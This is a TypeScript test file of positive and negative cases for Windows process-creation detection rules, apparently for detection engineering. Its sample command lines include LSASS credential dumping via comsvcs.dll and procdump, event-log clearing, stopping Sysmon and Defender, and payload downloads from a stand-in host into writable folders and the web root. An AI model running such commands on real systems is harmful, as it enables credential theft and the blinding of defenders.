/** Cases for the rules that read command lines (`process_creation`): of Sysmon, and of Security 4688. */
import { type Cases, process, security } from './events.ts';

const WORKER = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';
/** a program of System32 with its command line */
const run = (command: string, parent?: string) =>
  process(`C:\\Windows\\System32\\${command.split(' ', 1)[0]}.exe`, command, parent);
const audited = (NewProcessName: string, CommandLine: string, ParentProcessName: string) =>
  security(4688, { NewProcessName, CommandLine, ParentProcessName });

export const COMMANDS: Cases = {
  'windows/web_worker_child.yml': {
    yes: [
      run('cmd /c whoami', WORKER),
      run('whoami', WORKER),
      audited('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell', WORKER),
    ],
    no: [run('cmd /c whoami'), run('werfault -u -p 1', WORKER), audited('C:\\p\\csc.exe', 'csc', WORKER)],
  },
  'windows/web_worker_compiles.yml': {
    yes: [process('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', 'csc.exe /t:library', WORKER)],
    no: [process('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', 'csc.exe /t:library')],
  },
  'windows/lsass_dump_command.yml': {
    yes: [
      run('rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 716 C:\\x.bin full'),
      run('rundll32 comsvcs.dll #24 716 x full'),
      run('rundll32 comsvcs.dll,#+000024 716 x full'),
      process('C:\\t\\procdump64.exe', 'procdump64 -accepteula -ma lsass.exe x.dmp'),
    ],
    no: [
      run('rundll32 comsvcs.dll,#245'),
      run('regsvr32 comsvcs.dll'),
      process('C:\\t\\procdump64.exe', 'procdump64 -ma w3wp.exe x.dmp'),
      run('cmd /c rundll32 comsvcs.dll, MiniDump 716 x full'), // its child tells
    ],
  },
  'windows/log_clearing_command.yml': {
    yes: [
      run('wevtutil cl Security'),
      run('wevtutil clear-log System'),
      run('wevtutil sl Microsoft-Windows-Sysmon/Operational /e:false'),
      process('C:\\p\\powershell.exe', 'powershell Clear-EventLog -LogName Security'),
    ],
    no: [run('wevtutil qe Security /c:1'), run('wevtutil sl Security /ms:1073741824'), run('wevtutil sl X /e:true')],
  },
  'windows/sensor_stop_command.yml': {
    yes: [
      run('sc stop Sysmon64'),
      run('sc config EventLog start= disabled'),
      run('net stop "windefend"'),
      process('C:\\p\\powershell.exe', 'powershell Stop-Service -Name Sysmon -Force'),
      run('fltmc unload SysmonDrv'),
      process('C:\\Windows\\Sysmon64.exe', 'Sysmon64.exe -u force'),
    ],
    no: [
      run('sc query Sysmon64'),
      run('sc stop Spooler'),
      run('sc config EventLog start= auto'),
      process('C:\\Windows\\Sysmon64.exe', 'Sysmon64.exe -c update.xml'),
      process('C:\\p\\powershell.exe', 'powershell Get-Service sense; $nonsense'),
    ],
  },
  'windows/task_command_writable_folder.yml': {
    yes: [
      run('schtasks /create /tn x /tr "C:\\ProgramData\\x.exe" /sc daily'),
      run('schtasks /Create /xml C:\\Users\\a\\AppData\\Local\\Temp\\x.xml /tn x'),
    ],
    no: [
      run('schtasks /create /tn x /tr "C:\\Program Files\\x\\x.exe" /sc daily'),
      run('schtasks /query /tn C:\\ProgramData\\'),
    ],
  },
  'windows/certutil_download.yml': {
    yes: [
      run('certutil -urlcache -split -f http://x.example/a a.exe'),
      run('certutil -verifyctl -f https://x.example/a'),
    ],
    no: [
      run('certutil -urlcache * delete'),
      run('certutil -decode a b'),
      run('certutil -verify -urlfetch http://pki.example/a.cer'),
    ],
  },
  'windows/download_to_writable_folder.yml': {
    yes: [
      run('bitsadmin /transfer n http://x.example/a C:\\Users\\Public\\a.dll'),
      run('curl -o C:\\ProgramData\\a.exe https://x.example/a'),
      run('curl http://x.example/a -o C:\\inetpub\\wwwroot\\aspnet_client\\e.aspx'),
    ],
    no: [run('curl -o C:\\Users\\eve\\Downloads\\a.zip https://x.example/a'), run('bitsadmin /list')],
  },
  'windows/archive_with_password.yml': {
    yes: [
      process('C:\\ProgramData\\r.exe', 'r.exe a -hpQ7 -v40m i.png m1.pst'),
      process('C:\\t\\7z.exe', '7z.exe a -pQ7 w.7z docs'),
      audited('C:\\t\\rar.exe', 'rar a -r -hp1 x.rar docs', 'C:\\Windows\\System32\\cmd.exe'),
    ],
    no: [
      process('C:\\t\\rar.exe', 'rar.exe a x.rar docs'),
      process('C:\\t\\7z.exe', '7z.exe x -pQ7 w.7z'),
      run('cmd /c r.exe a -hpQ7 i.png m1.pst'), // its child tells
    ],
  },
  'windows/domain_explored.yml': {
    yes: [
      run('nltest /dclist:mea.example'),
      run('net group "Domain Admins" /domain'),
      run('net1 group "enterprise admins" /do'),
    ],
    no: [run('nltest /sc_query:mea.example'), run('net localgroup administrators'), run('net group "Sales" /domain')],
  },
};
